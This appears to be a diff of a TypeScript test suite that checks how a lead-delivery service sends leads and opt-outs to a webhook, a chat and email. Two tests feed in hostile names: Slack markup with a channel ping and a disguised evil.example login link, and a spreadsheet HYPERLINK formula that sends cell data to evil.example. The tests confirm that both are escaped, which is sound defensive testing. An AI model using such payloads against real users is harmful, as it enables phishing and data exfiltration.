@@ -17,7 +17,11 @@ const readable = (raw: string) => raw.replace(/=\r?\n/g, '').replace(/=3D/g, '='
 
 /** The webhook's signature headers of a received request. */
 export function signatureOf(request: Received) {
-  return { id: String(request.headers['webhook-id']), timestamp: String(request.headers['webhook-timestamp']), signature: String(request.headers['webhook-signature']) }
+  return {
+    id: String(request.headers['webhook-id']),
+    timestamp: String(request.headers['webhook-timestamp']),
+    signature: String(request.headers['webhook-signature']),
+  }
 }
 
 /**
@@ -70,7 +74,10 @@ function deliveryHarness(open: () => Promise<{ db: Database; close: () => Promis
     await removeDir(siteDir)
   })
 
-  async function deliverTo(targets: Partial<Record<'webhook' | 'chat' | 'email', true>>, overrides: Partial<DeliverySettings> = {}) {
+  async function deliverTo(
+    targets: Partial<Record<'webhook' | 'chat' | 'email', true>>,
+    overrides: Partial<DeliverySettings> = {},
+  ) {
     const { url } = await receiver
     delivery = await startLeadDelivery(
       db,
@@ -106,31 +113,63 @@ function deliveryHarness(open: () => Promise<{ db: Database; close: () => Promis
 
   const optOutDeliveries = (id: string) =>
     db.transaction((session) =>
-      session.query<{ target: string; status: string; attempts: number }>('select target, status, attempts from public.lead_notifications where opt_out_id = $1 order by target', [id]),
+      session.query<{ target: string; status: string; attempts: number }>(
+        'select target, status, attempts from public.lead_notifications where opt_out_id = $1 order by target',
+        [id],
+      ),
     )
 
   async function deliveries(id: string) {
     const { data, error } = await supabase(app.url, SERVICE_KEY).rpc('lead_deliveries', { lead_ids: [id] })
     expect(error).toBeNull()
-    return data as { target: string; status: string; attempts: number; delivered_at: string | null; last_error: string | null }[]
+    return data as {
+      target: string
+      status: string
+      attempts: number
+      delivered_at: string | null
+      last_error: string | null
+    }[]
   }
 
   return { receiver, smtp, log, deliverTo, send, sendOptOut, optOutDeliveries, deliveries }
 }
 
 /** Leads and opt-outs reaching every target, in words that cannot be mistaken for markup or formulas. */
-function describeDeliveries({ receiver, smtp, log, deliverTo, send, sendOptOut, optOutDeliveries, deliveries }: DeliveryHarness) {
+function describeDeliveries({
+  receiver,
+  smtp,
+  log,
+  deliverTo,
+  send,
+  sendOptOut,
+  optOutDeliveries,
+  deliveries,
+}: DeliveryHarness) {
   it('delivers a stored lead at once: signed to the webhook whole, to the chat without contact details, by email', async () => {
     await deliverTo({ webhook: true, chat: true, email: true })
     const { at } = await receiver
     const row = await send({ utm_source: 'google', gclid: 'Cj0' })
-    await eventually(async () => at('/hook').length === 1 && at('/chat').length === 1 && (await smtp).mails.length > 0, 15_000, () => log.join('\n'))
+    await eventually(
+      async () => at('/hook').length === 1 && at('/chat').length === 1 && (await smtp).mails.length > 0,
+      15_000,
+      () => log.join('\n'),
+    )
 
     const [hook] = at('/hook')
     expect(await verifyWebhook(SECRET, signatureOf(hook), hook.body)).toBe(true)
     expect(await verifyWebhook(SECRET, signatureOf(hook), hook.body.replace('Ana', 'Eve'))).toBe(false)
     const event = JSON.parse(hook.body)
-    expect(event).toMatchObject({ type: 'lead.created', data: { id: row.id, email: row.email, phone: row.phone, source: 'home_callback', utm_source: 'google', gclid: 'Cj0' } })
+    expect(event).toMatchObject({
+      type: 'lead.created',
+      data: {
+        id: row.id,
+        email: row.email,
+        phone: row.phone,
+        source: 'home_callback',
+        utm_source: 'google',
+        gclid: 'Cj0',
+      },
+    })
     expect(event.data).not.toHaveProperty('website')
 
     const chat = JSON.parse(at('/chat')[0].body).text as string
@@ -156,11 +195,21 @@ function describeDeliveries({ receiver, smtp, log, deliverTo, send, sendOptOut, 
     await deliverTo({ webhook: true, chat: true, email: true })
     const { at } = await receiver
     const row = await sendOptOut({ stop: 'texts' })
-    await eventually(async () => at('/hook').length === 1 && at('/chat').length === 1 && (await smtp).mails.some((mail) => mail.raw.includes(row.id)), 15_000, () => log.join('\n'))
+    await eventually(
+      async () =>
+        at('/hook').length === 1 &&
+        at('/chat').length === 1 &&
+        (await smtp).mails.some((mail) => mail.raw.includes(row.id)),
+      15_000,
+      () => log.join('\n'),
+    )
 
     const [hook] = at('/hook')
     expect(await verifyWebhook(SECRET, signatureOf(hook), hook.body)).toBe(true)
-    expect(JSON.parse(hook.body)).toMatchObject({ type: 'opt_out.created', data: { id: row.id, phone: row.phone, email: row.email, stop: 'texts', honor_by: expect.any(String) } })
+    expect(JSON.parse(hook.body)).toMatchObject({
+      type: 'opt_out.created',
+      data: { id: row.id, phone: row.phone, email: row.email, stop: 'texts', honor_by: expect.any(String) },
+    })
 
     const chat = JSON.parse(at('/chat')[0].body).text as string
     expect(chat).toContain('Opt-out: stop text messages')
@@ -199,20 +248,44 @@ function describeDeliveries({ receiver, smtp, log, deliverTo, send, sendOptOut, 
     const { at } = await receiver
     const earlier = await sendOptOut({ email: null })
     const row = await send({ phone: earlier.phone })
-    await eventually(async () => at('/hook').length === 2 && at('/chat').length === 2 && (await smtp).mails.some((mail) => mail.raw.includes(row.id)), 15_000, () => log.join('\n'))
-    const leadEvent = at('/hook').map((request) => JSON.parse(request.body)).find((event) => event.type === 'lead.created')
+    await eventually(
+      async () =>
+        at('/hook').length === 2 &&
+        at('/chat').length === 2 &&
+        (await smtp).mails.some((mail) => mail.raw.includes(row.id)),
+      15_000,
+      () => log.join('\n'),
+    )
+    const leadEvent = at('/hook')
+      .map((request) => JSON.parse(request.body))
+      .find((event) => event.type === 'lead.created')
     expect(leadEvent.data).toMatchObject({ id: row.id, opted_out_earlier: { id: earlier.id, stop: 'all' } })
-    expect(at('/chat').map((request) => JSON.parse(request.body).text).find((text: string) => text.includes(row.id))).toContain('this lead is new consent')
-    expect(readable((await smtp).mails.find((mail) => mail.raw.includes(row.id))?.raw ?? '')).toContain('Earlier opt-out: This contact asked to stop calls, text messages and emails')
+    expect(
+      at('/chat')
+        .map((request) => JSON.parse(request.body).text)
+        .find((text: string) => text.includes(row.id)),
+    ).toContain('this lead is new consent')
+    expect(readable((await smtp).mails.find((mail) => mail.raw.includes(row.id))?.raw ?? '')).toContain(
+      'Earlier opt-out: This contact asked to stop calls, text messages and emails',
+    )
   }, 30_000)
 
-  it("posts a first name made of Slack markup to the chat as text: no channel ping, no disguised link", async () => {
+  it('posts a first name made of Slack markup to the chat as text: no channel ping, no disguised link', async () => {
     await deliverTo({ chat: true })
     const { at } = await receiver
     const row = await send({ first_name: '<!channel> <https://evil.example/login|Open this lead in the CRM>' })
-    await eventually(() => at('/chat').length === 1, 15_000, () => log.join('\n'))
+    await eventually(
+      () => at('/chat').length === 1,
+      15_000,
+      () => log.join('\n'),
+    )
     const message = JSON.parse(at('/chat')[0].body)
-    expect(message).toEqual({ text: expect.stringContaining(`New lead: &lt;!channel&gt; &lt;https://evil.example/login|Open this lead in the CRM&gt; (Florida)`), mrkdwn: false })
+    expect(message).toEqual({
+      text: expect.stringContaining(
+        `New lead: &lt;!channel&gt; &lt;https://evil.example/login|Open this lead in the CRM&gt; (Florida)`,
+      ),
+      mrkdwn: false,
+    })
     expect(message.text).toContain(row.id)
     expect(message.text).not.toMatch(/[<>]/)
   })
@@ -222,14 +295,23 @@ function describeDeliveries({ receiver, smtp, log, deliverTo, send, sendOptOut, 
     const { at } = await receiver
     const formula = '=HYPERLINK("https://evil.example/?"&A1,"Details")'
     const row = await send({ first_name: formula })
-    await eventually(async () => at('/hook').length === 1 && (await smtp).mails.some((mail) => mail.raw.includes(row.id)), 15_000, () => log.join('\n'))
-    expect(JSON.parse(at('/hook')[0].body).data).toMatchObject({ id: row.id, first_name: `'${formula}`, phone: row.phone })
+    await eventually(
+      async () => at('/hook').length === 1 && (await smtp).mails.some((mail) => mail.raw.includes(row.id)),
+      15_000,
+      () => log.join('\n'),
+    )
+    expect(JSON.parse(at('/hook')[0].body).data).toMatchObject({
+      id: row.id,
+      first_name: `'${formula}`,
+      phone: row.phone,
+    })
     const mail = (await smtp).mails.find((candidate) => candidate.raw.includes(row.id))
     // The email carries the consent record's long lines, so it goes quoted-printable: read it decoded.
-    const decoded = (mail?.raw ?? '').replace(/=\r?\n/g, '').replace(/=([0-9A-F]{2})/g, (_, hex: string) => String.fromCharCode(parseInt(hex, 16)))
+    const decoded = (mail?.raw ?? '')
+      .replace(/=\r?\n/g, '')
+      .replace(/=([0-9A-F]{2})/g, (_, hex: string) => String.fromCharCode(parseInt(hex, 16)))
     expect(decoded).toContain(`Name: ${formula} Diaz`)
   })
-
 }
 
 /** No target configured, a receiver that is down, slow, rate-limiting or gone. */
@@ -246,7 +328,9 @@ function describeDeliveryTrouble({ receiver, log, deliverTo, send, deliveries }:
     answer(() => ({ status: 503 }))
     await deliverTo({ webhook: true })
     const rows = [await send(), await send(), await send()]
-    await eventually(() => new Set(at('/hook').map((request) => request.headers['webhook-id'])).size === 3 && at('/hook').length >= 6)
+    await eventually(
+      () => new Set(at('/hook').map((request) => request.headers['webhook-id'])).size === 3 && at('/hook').length >= 6,
+    )
     answer(() => ({ status: 200 }))
     for (const row of rows) await eventually(async () => (await deliveries(row.id))[0].status === 'delivered')
     const byId = new Map<string, string[]>()
@@ -280,13 +364,26 @@ function describeDeliveryTrouble({ receiver, log, deliverTo, send, deliveries }:
     answer((request) => (request.path === '/hook' ? { status: 410 } : { status: 200 }))
     await deliverTo({ webhook: true, chat: true })
     const row = await send()
-    await eventually(() => at('/chat').some((request) => request.body.includes('Lead delivery failed (webhook)')), 15_000, () => log.join('\n') + at('/chat').map((r) => r.body).join('\n'))
-    const alert = JSON.parse(at('/chat').find((request) => request.body.includes('failed'))?.body ?? '{}').text as string
+    await eventually(
+      () => at('/chat').some((request) => request.body.includes('Lead delivery failed (webhook)')),
+      15_000,
+      () =>
+        log.join('\n') +
+        at('/chat')
+          .map((r) => r.body)
+          .join('\n'),
+    )
+    const alert = JSON.parse(at('/chat').find((request) => request.body.includes('failed'))?.body ?? '{}')
+      .text as string
     expect(alert).toContain(`Lead ${row.id}`)
     expect(alert).toContain('answered 410')
     expect(at('/hook')).toHaveLength(1)
     const report = await deliveries(row.id)
-    expect(report.find((delivery) => delivery.target === 'webhook')).toMatchObject({ status: 'dead', attempts: 1, last_error: expect.stringContaining('410') })
+    expect(report.find((delivery) => delivery.target === 'webhook')).toMatchObject({
+      status: 'dead',
+      attempts: 1,
+      last_error: expect.stringContaining('410'),
+    })
     expect(log.some((line) => line.startsWith('Lead delivery failed (webhook)'))).toBe(true)
   }, 20_000)
 
